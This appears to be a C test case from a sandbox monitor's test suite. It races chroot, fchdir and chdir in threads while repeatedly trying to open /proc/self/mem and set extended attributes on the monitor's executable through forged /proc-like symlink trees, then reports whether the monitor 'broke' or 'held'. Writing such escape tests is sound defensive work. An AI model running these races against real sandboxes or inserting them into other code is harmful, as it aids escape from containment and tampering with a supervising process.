// Promises 3 and 6. The root and the working directory move while paths are resolved, and below one of the roots /proc
// is the attacker's: the monitor's memory must not be reached, nor an attribute be put on the monitor's program.

// natively: broke
#include "attack.h"

#include <sys/xattr.h>

static int outside, home, proc;

static void* move_root(void* unused) {
  while (attacking()) {
    CALL(SYS_chroot, "jail");
    CALL(SYS_fchdir, outside);
    CALL(SYS_chroot, ".");
    CALL(SYS_fchdir, home);
  }
  return unused;
}

static void* move_directory(void* unused) {
  while (attacking()) {
    CALL(SYS_fchdir, proc);
    CALL(SYS_chdir, "/proc/self");
    CALL(SYS_fchdir, home);
  }
  return unused;
}

static void judge(long fd, const char* way) {
  char bytes[8];
  if (fd < 0) return;
  if (CALL(SYS_pread64, fd, bytes, 8, target) == 8) broke("%s reads the monitor's memory", way);
  close((int)fd);
}

// Each descriptor's name in the jail's /proc is a link to the program that runs.
static void forge(int folder, const char* path) {
  for (int number = 0; number < 2000; ++number) {
    char name[64];
    snprintf(name, sizeof name, "%s/%d", path, number);
    symlinkat("/self/exe", folder, name);
  }
}

int main(void) {
  outside = open("/", O_PATH | O_DIRECTORY);
  home = open(".", O_PATH | O_DIRECTORY);
  proc = open("/proc/self", O_PATH | O_DIRECTORY);
  mkdir("jail", 0755);
  mkdir("jail/proc", 0755);
  mkdir("jail/proc/thread-self", 0755);
  mkdir("jail/proc/thread-self/fd", 0755);
  forge(AT_FDCWD, "jail/proc/thread-self/fd");
  mkdir("thread-self", 0755);
  mkdir("thread-self/fd", 0755);
  forge(AT_FDCWD, "thread-self/fd");
  symlink("/proc/self/exe", "jail/self");
  symlink("/proc/self/mem", "memory");
  if (chroot("/") != 0) cannot("chroot");
  const pthread_t roots = start_thread(move_root, 0), directories = start_thread(move_directory, 0);
  while (attacking()) {
    judge(CALL(SYS_open, "/proc/self/mem", O_RDWR), "the root");
    judge(CALL(SYS_openat, proc, "mem", O_RDWR), "a folder of the old root");
    judge(CALL(SYS_openat, proc, "root/proc/self/mem", O_RDWR), "its root");
    judge(CALL(SYS_open, "mem", O_RDWR), "the working directory");
    judge(CALL(SYS_openat, home, "memory", O_RDWR), "a link");
    CALL(SYS_setxattr, "/proc/self/exe", "user.attack", "1", 1, 0);
    CALL(SYS_setxattr, "thread-self/fd/3", "user.attack", "1", 1, 0);
    CALL(SYS_setxattr, "/self", "user.attack", "1", 1, 0);
  }
  join(roots);
  join(directories);
  CALL(SYS_fchdir, outside);
  CALL(SYS_chroot, ".");
  CALL(SYS_fchdir, home);
  char value[8];
  if (getxattr("../bin/km", "user.attack", value, sizeof value) >= 0) broke("the monitor's program has an attribute");
  held();
}
